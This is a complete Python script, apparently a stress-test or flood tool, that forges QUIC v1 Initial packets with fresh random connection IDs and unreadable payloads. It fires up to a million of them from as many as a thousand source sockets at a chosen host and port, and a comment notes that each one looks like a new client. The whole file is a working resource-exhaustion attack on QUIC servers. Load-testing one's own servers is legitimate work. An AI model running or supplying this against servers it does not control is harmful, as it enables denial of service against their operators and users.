#!/usr/bin/env python3
"""Sends forged QUIC v1 Initials to a server: well-formed long headers (fresh 8..20-byte
connection IDs, padded to 1200 bytes) whose protected payload is random, so they never decrypt.

    forge_initials.py HOST:PORT --count 1000000 --seconds 60 --ports 1000

Paced evenly over --seconds from --ports source sockets; prints what it sent."""
import argparse
import os
import random
import socket
import time


def forged(rng: random.Random) -> bytearray:
    p = bytearray([0xC3, 0, 0, 0, 1])  # long header, Initial, 4-byte packet number, version 1
    for _ in range(2):
        n = rng.randint(8, 20)
        p.append(n)
        p += os.urandom(n)
    p.append(0)  # no token
    rest = 1200 - len(p) - 2
    p += bytes([0x40 | (rest >> 8), rest & 0xFF])
    p += os.urandom(1200 - len(p))
    return p


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("target")
    ap.add_argument("--count", type=int, default=1_000_000)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--ports", type=int, default=1000)
    a = ap.parse_args()
    host, port = a.target.rsplit(":", 1)
    to = (host, int(port))
    socks = []
    for _ in range(a.ports):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setblocking(False)
        socks.append(s)
    rng = random.Random(1)
    # A pool of packets whose connection IDs are refreshed as they are reused: building 1,000,000
    # fresh ones costs more CPU than the server under test gets.
    pool = [forged(rng) for _ in range(2048)]
    start = time.monotonic()
    sent = dropped = 0
    interval = a.seconds / a.count
    for i in range(a.count):
        p = pool[i % len(pool)]
        p[6:14] = os.urandom(8)  # a new destination ID: every Initial looks like a new client
        try:
            socks[i % len(socks)].sendto(p, to)
            sent += 1
        except BlockingIOError:
            dropped += 1
        if i % 64 == 63:
            ahead = start + (i + 1) * interval - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    took = time.monotonic() - start
    print(f"sent {sent} forged Initials ({dropped} not sent: socket full) from {a.ports} ports in {took:.1f} s")


if __name__ == "__main__":
    main()
